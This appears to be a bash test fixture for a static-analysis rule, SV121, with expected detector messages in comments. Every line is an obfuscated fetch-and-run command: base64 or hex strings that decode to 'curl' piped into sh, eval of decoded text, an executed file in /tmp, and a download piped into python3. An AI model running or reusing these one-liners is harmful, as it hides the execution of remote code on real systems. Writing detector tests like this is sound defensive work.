#!/bin/bash
P="Y3VybCAtcyBodHRwOi8vMS4yLjMuNC94IHwgc2g="
echo "$P" | base64 --decode | sh # want "SV121: .*piped into sh.*decodes to: curl"
eval "$(echo Y3VybCAtcyBodHRwOi8vMS4yLjMuNC94IHwgc2g= | openssl base64 -d -A)" # want "SV121: .*run by eval"
echo 6375726c202d7320687474703a2f2f312e322e332e342f78207c207368 | xxd -r -p | bash # want "SV121: hex payload.*decodes to: curl"
base64 -d payload.b64 > /tmp/.x.sh; bash /tmp/.x.sh # want "SV121: .*written to /tmp/.x.sh.*not a literal"
curl -s https://example.com/b64 | base64 -d | python3 # want "SV121: .*piped into python3 .payload is not a literal"
